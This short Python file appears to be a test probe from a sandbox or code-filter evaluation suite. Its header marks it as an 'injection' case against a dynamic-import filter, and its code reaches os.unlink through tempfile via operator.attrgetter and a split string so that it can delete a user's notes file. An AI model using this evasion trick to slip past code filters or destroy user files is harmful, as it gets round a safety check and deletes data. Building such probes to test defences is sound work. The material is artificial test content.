# family: injection
# filterfamily: dynamic-import
# tries: use operator.attrgetter instead of getattr to reach the OS module that tempfile imports, and delete a user file
# source: none
# exfil: no
import operator
import sys
import tempfile

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
delete = operator.attrgetter("_o" + "s.un" + "link")(tempfile)
delete(userfiles + "/notes.txt")
